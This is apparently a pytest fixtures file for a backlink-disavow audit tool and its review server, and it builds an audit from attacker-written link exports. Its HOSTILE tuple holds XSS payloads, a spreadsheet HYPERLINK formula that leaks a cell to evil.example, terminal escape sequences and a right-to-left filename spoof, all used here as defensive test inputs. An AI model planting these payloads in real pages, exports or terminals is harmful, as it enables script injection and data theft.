"""Audits to review: the sample profile, and one whose exports were written by an attacker."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from detector import Settings, audit
from detector.classifier.store import load
from detector.links.domains import Domains
from detector.review.routes import Routes
from detector.review.server import Server
from detector.review.session import Review

SITE = "kettle-and-thyme.example"
HOSTILE = (
    "</script><script>alert(1)</script>",
    "<img src='https://evil.example/x.png' onerror=alert(2)>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "\x1b]0;owned\x07\x1b[2J",
    "\u202egnp.exe",
    "המתכון המקורי",
)


@pytest.fixture(scope="session")
def domains() -> Domains:
    return Domains.default()


@pytest.fixture(scope="session")
def audited(project: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sample profile, audited once; not to be written to."""
    folder = tmp_path_factory.mktemp("sample") / "audit"
    samples = project / "disavow_samples"
    files = sorted(path for path in samples.iterdir() if path.name.endswith((".csv", ".csv.gz")))
    files = [path for path in files if path.name != "truth.csv"]
    audit(files, Settings(site=SITE, disavow=samples / "old-disavow.txt", keep_going=True), folder)
    return folder


@pytest.fixture(scope="session")
def hostile_audited(write_ahrefs: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An audit of links whose anchors, titles and addresses are an attacker's; not to be written to."""
    base = tmp_path_factory.mktemp("hostile")
    rows = [
        {
            "Referring page URL": f"https://bad{n}.example/{text}",
            "Referring page title": text,
            "Target URL": f"https://{SITE}/?q={text}",
            "Anchor": text,
        }
        for n, text in enumerate(HOSTILE)
    ]
    export = write_ahrefs(base / "links.csv", rows)
    audit([export], Settings(site=SITE), base / "audit")
    return base / "audit"


@pytest.fixture
def folder(audited: Path, tmp_path: Path) -> Path:
    """An audit of one's own."""
    return Path(shutil.copytree(audited, tmp_path / "audit"))


@pytest.fixture
def hostile_folder(hostile_audited: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(hostile_audited, tmp_path / "hostile"))


class Clock:
    """Ticks a second every time it is looked at."""

    def __init__(self) -> None:
        self.seconds = 0

    def __call__(self) -> datetime:
        self.seconds += 1
        return datetime.fromtimestamp(1_790_000_000 + self.seconds, UTC)


@pytest.fixture
def open_review(domains: Domains) -> Iterator[Callable[[Path], Review]]:
    """``open_review(folder)``: a review of ann's, closed at the end."""
    opened: list[Review] = []
    clock = Clock()

    def open_(folder: Path) -> Review:
        opened.append(Review(folder, domains, who="ann", now=clock))
        return opened[-1]

    yield open_
    for review in opened:
        review.close()


@pytest.fixture
def review(folder: Path, open_review: Callable[[Path], Review]) -> Review:
    return open_review(folder)


@pytest.fixture
def serve(open_review: Callable[[Path], Review]) -> Iterator[Callable[[Path], Server]]:
    """``serve(folder)``: a server of a review of that folder, in a thread, stopped at the end."""
    servers: list[Any] = []

    def start(folder: Path) -> Server:
        server = Server(Routes(open_review(folder), load).table)
        server.run_beside()
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.shutdown()
        server.server_close()
